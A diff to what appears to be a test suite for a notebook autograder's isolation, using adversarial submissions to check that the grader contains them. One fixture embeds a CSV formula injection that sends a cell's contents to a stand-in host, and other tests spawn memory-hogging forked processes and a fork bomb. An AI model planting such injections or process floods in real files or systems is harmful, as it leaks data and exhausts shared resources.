@@ -140,7 +140,7 @@ def csv_injector_ch02():
     _set(nb, "classify", "Formula = type('=HYPERLINK(\"http://example.invalid/?\"&A1)', (Exception,), {})\n\n"
                          "def classify(H, tol=1e-8):\n    if not np.any(H):\n        return 'inconclusive'\n"
                          "    raise Formula('click me')\n")
-    return nb                                                      # 8: classify 0
+    return nb                                                      # 6: classify (4) 0
 
 
 def flooder_ch03(fmt):
@@ -247,7 +247,7 @@ for i in range(400):
         break
     if pid == 0:
         try:
-            hog = bytearray(16 * 2**20)
+            hog = bytearray(8 * 2**20)
             time.sleep(60)
         finally:
             os._exit(0)
@@ -284,7 +284,7 @@ def slow_ch01():
 
 EXPECTED = {
     ("careless", "ch01_definition"): 10, ("private", "ch05_landscapes"): 10, ("stray", "ch04_optimization"): 10,
-    ("generator", "ch02_curvature"): 10, ("links", "ch02_curvature"): 10, ("injector", "ch02_curvature"): 8,
+    ("generator", "ch02_curvature"): 10, ("links", "ch02_curvature"): 10, ("injector", "ch02_curvature"): 6,
     ("flooder", "ch03_hvp"): 10, ("snoop", "ch03_hvp"): 10, ("shadow", "ch03_hvp"): 0, ("threader", "ch03_hvp"): 6,
     ("helper", "ch01_definition"): 0, ("aaa_daemon", "ch04_optimization"): 10, ("aab_forker", "ch05_landscapes"): 10,
     ("linked_nb", "ch03_hvp"): 0, ("linked_dir", "ch01_definition"): 0,
@@ -474,8 +474,11 @@ def test_a_daemon_or_fork_bomb_harms_only_its_own_notebook(run):
         rows = parts(run, *key)
         assert all(r.status == "passed" for r in rows.values()), [(r.part, r.status, r.feedback) for r in rows.values()]
     forker = outputs_text(graded_nb(run, "aab_forker", "ch05_landscapes"))
-    forked = int(re.search(r"forked (\d+)", forker).group(1))
-    assert forked < 200 and "wrote 600 MB" not in forker, forker[-500:]
+    forked = re.search(r"forked (\d+)", forker)
+    if forked:                             # stopped by the process cap, and the file by the size cap
+        assert int(forked.group(1)) < 200 and "wrote 600 MB" not in forker, forker[-500:]
+    else:                                  # or the notebook's cgroup ended the whole tree: the kernel died
+        assert "DeadKernelError" in forker, forker[-500:]
     # no kernel process of the run survives it (their homes were under the run's folder), no fresh user is
     # left, and no daemon note is left in the shared folders
     alive = []
@@ -517,7 +520,7 @@ def test_a_slow_notebook_runs_out_of_its_budget_alone(tmp_path):
     slow = {r.part: r for r in rows if r.student == "slow"}
     assert [slow[p].status for p in ("test_gradient_f", "test_hessian_f", "test_taylor")] == ["passed"] * 3, \
         [(r.part, r.status, r.feedback) for r in slow.values()]
-    assert slow["test_errors"].status == "not run" and slow["test_errors"].points == 0
+    assert slow["test_errors"].status in ("not run", "timeout") and slow["test_errors"].points == 0
     assert "budget of 30 s" in slow["test_errors"].feedback
     assert sum(r.points for r in rows if r.student == "zz_honest") == 10
 
